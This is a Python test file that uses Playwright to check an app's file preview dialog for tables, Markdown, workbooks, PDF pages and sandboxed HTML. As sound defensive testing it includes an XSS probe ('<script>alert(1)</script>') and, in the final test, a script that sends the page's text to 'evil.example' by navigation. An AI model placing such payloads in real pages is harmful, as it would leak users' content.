"""Files that are shown in the page: tables, Markdown, images, pages of a PDF, and HTML in a frame."""

from collections.abc import Callable
from typing import Any

import pytest

from tests.server.pages.conftest import Server, Watched
from tests.server.pages.test_page_accessibility import problems
from tests.server.pages.test_page_stories import BOTH, answer, button, send, wait_until
from tests.server.test_previews import PIXEL, pdf
from tests.tools.workbooks import cells, text_row, workbook

pytestmark = [pytest.mark.slow, pytest.mark.peer, pytest.mark.timeout(180)]
Serve = Callable[..., Server]
# It describes what a script could do in its document.
HTML = """<h1>Report</h1><p id=seen>still</p><script>
const seen = document.getElementById("seen");
const words = ["runs"];
try { parent.document.title; words.push("reads the page"); } catch { words.push("sees no page"); }
try { localStorage.length; words.push("has storage"); } catch { words.push("has no storage"); }
fetch("/api/health").then(() => words.push("reaches the server"), () => words.push("reaches nothing"))
  .finally(() => { seen.textContent = words.join(", "); });
</script>"""


def open_file(page: Any, name: str) -> Any:
    """Return the dialog that shows a file of the panel."""
    button(page, f"Show {name}").click()
    dialog = page.locator("dialog.preview")
    dialog.wait_for()
    return dialog


def open_panel(pages: Watched, server: Server, path: str, **options: Any) -> Any:
    page = pages.open(server, path, **options)
    send(page, "Hi")
    answer(page, "Hello.")
    if page.locator(".panel").is_hidden():
        page.get_by_role("button", name="Show details").click()
    page.get_by_role("tab", name="Files").click()
    return page


@BOTH
def test_tables_markdown_images_and_pdf_pages_are_shown(
    serve: Serve, pages: Watched, path: str
) -> None:
    server = serve({"text": "Hello."})
    here = server.workspace
    (here / "sums.csv").write_text('Name;Sum\n"Müller; Söhne";"say ""hi"""\n', "utf-8")
    (here / "notes.md").write_text(
        "# Plan\n\n<script>alert(1)</script>\n\n**bold**\n", "utf-8"
    )
    (here / "dot.png").write_bytes(PIXEL)
    (here / "two.pdf").write_bytes(pdf("one", "two"))
    page = open_panel(pages, server, path)

    dialog = open_file(page, "sums.csv")
    dialog.locator("td").first.wait_for()
    table = dialog.locator("table th, table td").all_inner_texts()
    faults = problems(page)
    button(dialog, "Close").click()
    dialog = open_file(page, "notes.md")
    dialog.locator("strong", has_text="bold").wait_for()
    button(dialog, "Close").click()
    dialog = open_file(page, "dot.png")
    dialog.locator("img[alt='dot.png']").wait_for()
    button(dialog, "Close").click()
    dialog = open_file(page, "two.pdf")
    dialog.get_by_text("Page 1 of 2").wait_for()
    button(dialog, "Next").click()
    dialog.locator("img[alt='two.pdf, page 2']").wait_for()
    last = button(dialog, "Next").is_disabled()
    faults += problems(page)
    page.keyboard.press("Escape")
    dialog.wait_for(state="detached")

    assert table == ["Name", "Sum", "Müller; Söhne", 'say "hi"']
    assert last
    assert faults == []


@BOTH
def test_a_workbook_is_shown_as_tables_with_its_sheets_as_tabs(
    serve: Serve, pages: Watched, path: str
) -> None:
    server = serve({"text": "Hello."})
    bill = cells(text_row("Name", "Sum"), text_row("Müller", "12.50"))
    content = workbook(Open=cells(text_row("Nothing is open")), Paid=bill)
    (server.workspace / "book.xlsx").write_bytes(content)
    page = open_panel(pages, server, path)

    dialog = open_file(page, "book.xlsx")
    dialog.locator("th", has_text="Nothing is open").wait_for()
    dialog.get_by_role("tab", name="Open").focus()
    page.keyboard.press("ArrowRight")
    dialog.locator("td", has_text="12.50").wait_for()

    table = dialog.locator("table th, table td").all_inner_texts()
    numbers = dialog.locator(".number").all_inner_texts()
    chosen = dialog.locator("[role=tab][aria-selected=true]").inner_text()
    faults = problems(page)
    assert table == ["Name", "Sum", "Müller", "12.50"]
    assert numbers == ["Sum", "12.50"]  # which stand at the right
    assert chosen == "Paid"
    assert faults == []


def test_of_a_wide_table_the_first_columns_are_shown(serve: Serve, pages: Watched) -> None:
    server = serve({"text": "Hello."})
    line = ",".join(map(str, range(20_000)))
    (server.workspace / "wide.csv").write_text(f"{line}\n" * 50 + "x" * 1_000_000)
    page = open_panel(pages, server, "/")

    dialog = open_file(page, "wide.csv")
    dialog.get_by_text("The first 100 columns:").wait_for()

    assert dialog.locator("th").count() == 100
    assert len(dialog.locator("td").last.inner_text()) == 2001


@BOTH
def test_html_in_a_preview_runs_scripts_only_on_request_and_then_reaches_nothing(
    serve: Serve, pages: Watched, path: str
) -> None:
    server = serve({"text": "Hello."})
    (server.workspace / "report.html").write_text(HTML, "utf-8")
    page = open_panel(pages, server, path)

    dialog = open_file(page, "report.html")
    inside = page.frame_locator("dialog.preview iframe").locator("#seen")
    inside.wait_for()
    page.wait_for_timeout(300)
    before = inside.inner_text()
    button(dialog, "Run its scripts once").click()
    page.frame_locator("dialog.preview iframe").get_by_text("runs").wait_for()
    after = inside.inner_text()
    pages.wrong = [each for each in pages.wrong if "/previews/report.html" not in each and "about:srcdoc" not in each]  # fmt: skip

    assert before == "still"
    assert after == "runs, sees no page, has no storage, reaches nothing"


def test_a_created_file_is_shown_from_its_card(serve: Serve, pages: Watched) -> None:
    call = {"tool": "write_file", "arguments": {"path": "a.csv", "content": "x,y\n1,2\n"}}
    page = pages.open(serve({"calls": [call]}, {"text": "Written."}))
    send(page, "Write")
    page.locator(".request").wait_for()
    button(page, "Yes").click()
    answer(page, "Written.")

    page.locator(".made").get_by_role("button", name="Show a.csv").click()

    page.locator("dialog.preview td", has_text="2").wait_for()


@BOTH
def test_a_preview_fits_a_phone(serve: Serve, pages: Watched, path: str) -> None:
    server = serve({"text": "Hello."})
    (server.workspace / "two.pdf").write_bytes(pdf("one", "two"))
    phone = {
        "viewport": {"width": 360, "height": 640},
        "is_mobile": True,
        "has_touch": True,
    }
    page = open_panel(pages, server, path, **phone)

    dialog = open_file(page, "two.pdf")
    dialog.locator("img").wait_for()
    wait_until(
        page,
        "() => document.querySelector('.preview img').getBoundingClientRect().right <= 360",
    )

    assert page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")


def test_a_preview_that_runs_scripts_cannot_navigate_away(
    serve: Serve, pages: Watched
) -> None:
    server = serve({"text": "Hello."})
    leave = "<p id=seen>here</p><script>location = 'https://evil.example/?' + document.body.textContent</script>"
    (server.workspace / "leave.html").write_text(leave, "utf-8")
    page = open_panel(pages, server, "/")

    dialog = open_file(page, "leave.html")
    button(dialog, "Run its scripts once").click()
    while not (blocked := [each for each in pages.wrong if "frame-src" in each]):
        page.wait_for_timeout(50)
    reached = [each for each in pages.wrong if each.startswith("request: ")]
    pages.wrong = []  # the message of the browser

    assert blocked
    assert reached == []
